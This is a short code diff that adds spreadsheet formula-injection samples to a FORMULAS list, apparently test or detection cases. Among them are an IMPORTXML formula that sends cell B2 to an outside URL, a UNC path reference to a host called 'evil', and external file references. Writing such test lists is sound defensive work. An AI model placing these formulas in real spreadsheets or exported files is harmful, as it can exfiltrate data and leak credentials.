@@ -192,6 +192,16 @@ FORMULAS = [
     '=WEBSERVICE("x")',
     '=HYPERLINK("x","y")',
     '=CALL("a","b")',
+    '=IMPORTXML("http://x/"&B2,"a")',
+    '=_xlfn.TRANSLATE(B2,"zh","en")',
+    '=_xlfn.COPILOT("x",B2)',
+    '=SQL.REQUEST("x")',
+    '=CUBEVALUE("x","y")',
+    "='\\\\evil\\s\\[a.csv]S'!A1",
+    "='file:///x'#$S.A1",
+    "=[a.ods]S!A1",
+    '="abc',
+    "=A1 B1}",
 ]
 
 
